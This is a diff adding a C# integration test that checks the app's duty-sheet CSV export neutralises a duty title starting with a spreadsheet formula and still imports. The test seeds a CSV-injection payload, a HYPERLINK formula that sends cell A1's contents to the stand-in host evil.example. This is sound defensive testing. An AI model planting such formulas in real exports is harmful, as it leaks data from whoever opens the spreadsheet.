@@ -1,6 +1,7 @@
 using System.Globalization;
 using System.Net;
 using System.Text;
+using CsvHelper;
 using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
 using Salam.Application.Common.Time;
@@ -67,6 +68,32 @@ public sealed class UpdateSheetTests(SalamWebFactory factory) : IClassFixture<Sa
         var open = await db.Duties.Where(d => d.AgencyId == welfare && d.Status != DutyStatus.Done && d.Status != DutyStatus.Declined).Select(d => d.Id).ToListAsync();
         var others = await db.Duties.Where(d => d.AgencyId != welfare).Select(d => d.Id).ToListAsync();
         return (welfare, open, others);
+    }
+
+    [Fact]
+    public async Task A_duty_title_that_would_start_a_formula_is_neutralised_in_the_sheet_and_the_sheet_still_imports()
+    {
+        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"جزئیات\")";
+        int dutyId;
+        await using (var scope = factory.Services.CreateAsyncScope())
+        {
+            var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
+            var agencyId = await db.Users.Where(u => u.UserName == "agency.qom.welfare").Select(u => u.AgencyId).SingleAsync();
+            dutyId = await db.Duties.Where(d => d.AgencyId == agencyId && d.Status != DutyStatus.Done && d.Status != DutyStatus.Declined).Select(d => d.Id).FirstAsync();
+            // The title a need gave its duty, as an attacker would have typed it.
+            await db.Duties.Where(d => d.Id == dutyId).ExecuteUpdateAsync(s => s.SetProperty(d => d.Title, formula));
+        }
+        var client = factory.NewClient();
+        await client.SignInStaffAsync("agency.qom.welfare");
+
+        var file = await client.GetByteArrayAsync("/agency/update-sheet.csv");
+
+        using var reader = CsvReader.Create(file.AsMemory(Encoding.UTF8.Preamble.Length), new CsvReaderOptions { HasHeader = true });
+        var titles = new Dictionary<string, string>();
+        while (reader.Read()) titles[reader["duty_id"].ToString()] = reader["title"].ToString();
+        Assert.Equal("'" + formula, titles[dutyId.ToString(System.Globalization.CultureInfo.InvariantCulture)]);
+        Assert.DoesNotContain(titles.Values, t => t.StartsWith('='));
+        Assert.Contains(DutyCsv.Parse(file), r => r.DutyId == dutyId.ToString(System.Globalization.CultureInfo.InvariantCulture));
     }
 
     [Theory]
